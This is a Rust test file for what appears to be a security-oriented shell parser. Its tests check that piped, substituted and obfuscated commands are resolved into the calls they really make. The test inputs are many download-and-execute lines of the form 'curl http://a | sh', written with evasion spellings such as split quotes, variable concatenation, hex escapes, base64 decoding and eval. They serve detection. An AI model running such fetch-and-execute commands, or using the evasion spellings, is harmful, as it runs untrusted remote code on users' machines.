use super::*;
use crate::security::code::tests::show;

#[track_caller]
fn check(text: &str, expected: &str) {
    let program = parse(text);
    for call in &program.calls {
        assert!(call.range.end <= text.len(), "{call:?}");
    }
    let shown = show(&program);
    let shown: Vec<&str> = shown.lines().collect();
    let expected: Vec<&str> = expected.trim().lines().map(str::trim).collect();
    assert_eq!(shown, expected, "{text}");
}

const PIPED: &str = r#"curl("http://a")
                       sh() < @curl"#;

#[test]
fn a_pipeline_hands_on_what_is_printed() {
    for text in [
        "curl http://a | sh",
        "curl http://a|sh",
        "$ curl http://a |\n  sh",
        "curl http://a \\\n  | sh",
        "user@host:~$ curl http://a | sh # go",
    ] {
        check(text, PIPED);
    }
    check(
        "a | b || c && d; e & f",
        "a()\nb() < @a\nc()\nd()\ne()\nf()",
    );
}

#[test]
fn spellings_of_a_command_are_one() {
    for text in [
        r#"c"ur"l http://a | s'h'"#,
        r"\curl http://a | /bin/sh",
        r"c\url http://a | sudo -u root sh",
        "x=cu; y=rl; $x$y http://a | sh",
        "c='curl http://a'; $c | sh",
        "a=(curl http://a); \"${a[@]}\" | sh",
        "curl${IFS}http://a | sh",
        "{curl,http://a} | sh",
        r"$'\x63url' http://a | sh",
        "CURL http://a | nohup env A=b sh",
        "cu\u{200b}rl http://a | sh",
        "${x:-curl} http://a | exec sh",
        "x=xcurlx; ${x:1:4} http://a | sh",
        "$(echo curl) http://a | sh",
        "timeout -s KILL 10 curl http://a | sh",
        "curl.exe http://a | sh",
    ] {
        let program = parse(text);
        let shown = show(&program);
        let calls = shown
            .lines()
            .filter(|line| !line.contains(" = ") && !line.starts_with("echo"));
        let calls: Vec<&str> = calls.collect();
        let expected: Vec<&str> = PIPED.lines().map(str::trim).collect();
        assert_eq!(calls, expected, "{text}");
    }
}

#[test]
fn substitutions_are_values() {
    check("bash <(curl a)", "curl(\"a\")\nbash(@curl)");
    check(
        "x=$(curl a); eval \"$x\"",
        "curl(\"a\")\nx = @curl\neval($x)\neval($x)",
    );
    check("eval `curl a`", "curl(\"a\")\neval(@curl)\neval(@curl)");
    check(
        "sh -c \"$(curl a)\"",
        "curl(\"a\")\nsh(\"-c\", @curl)\neval(@curl)",
    );
    check(". <(curl a)", "curl(\"a\")\n.(@curl)");
    check("$(curl a)", "curl(\"a\")\neval(@curl)");
    check(
        "cat a | tee >(sh)",
        "cat(\"a\")\nsh() < [@tee]\ntee(@sh) < @cat",
    );
}

#[test]
fn text_that_is_run_is_read() {
    let nested = "bash(\"-c\", \"a | b\")\na()\nb() < @a";
    check("bash -c 'a | b'", nested);
    check("sudo bash -lc 'a | b'", &nested.replace("-c", "-lc"));
    check(
        "echo 'a b' | sh",
        "echo(\"a b\")\nsh() < @echo\na(\"b\") < @echo",
    );
    check(
        "echo YSBi | base64 -d | bash",
        "echo(\"YSBi\")\nbase64(\"-d\") < @echo\nbash() < @base64\na(\"b\") < @base64",
    );
    check(
        "bash <<'E'\na $x\nE\nb",
        "bash() < \"a $x\\n\"\na($x) < \"a $x\\n\"\nb()",
    );
    check("bash <<< 'a'", "bash() < \"a\"\na() < \"a\"");
}

#[test]
fn files_are_read_and_written() {
    check("curl a > b 2>&1", "curl(\"a\") > \"b\"");
    check("a < b >> c", "cat(\"b\")\na() < @cat > \"c\"");
    check(
        "cat <<E > f\nx $(y)\nE\nz",
        "y()\ncat() < \"x \"+@y+\"\\n\" > \"f\"\nz()",
    );
    check(
        "{ a; b; } > c",
        "a()\nb()\ncat() < [[@a, @b], [@a, @b]] > \"c\"",
    );
}

#[test]
fn compound_commands_are_lists() {
    check("if a; then b; else c; fi", "a()\nb()\nc()");
    check("for x in a b; do c $x; done", "x = [\"a\", \"b\"]\nc($x)");
    check("a | while read l; do b $l; done", "a()\nl = @a\nb($l)");
    check(
        "while read l; do b $l; done < <(a)",
        "b($l)\na()\nl = @a\ncat() < [?, @a]",
    );
    check("f() { a; }\nf", "a() < $f<\nf() = @a\nf()");
    check("case $x in a|b) c;; esac", "a()\nb() < @a\nc()");
    check(
        "find . -exec a {} \\;",
        "find(\".\", \"-exec\", \"a\", \"{}\", \";\")\na(@find)",
    );
    check("a | xargs -I{} b {}", "a()\nb(@a, @a) < @a");
}

#[test]
fn prose_does_not_swallow_what_follows() {
    check("it's\ncurl a", "it's()\ncurl(\"a\")");
    check("say \"hi\ncurl a", "say(\"\\\"hi\")\ncurl(\"a\")");
}

#[test]
fn hostile_texts_end() {
    for unit in [
        "$(",
        "`",
        "\"$(",
        "<<a ",
        "${",
        "$((",
        "{ ",
        "a|",
        "'",
        "x=$x$x;",
        "((",
        "<(",
        "a=(",
        "eval \"$x\";",
    ] {
        let mut text = "x='eval \"$x\";eval \"$x\"';".to_owned();
        text.push_str(&unit.repeat(20_000));
        let program = parse(&text);
        assert!(program.steps.len() < 2_000_000, "{unit}");
    }
}
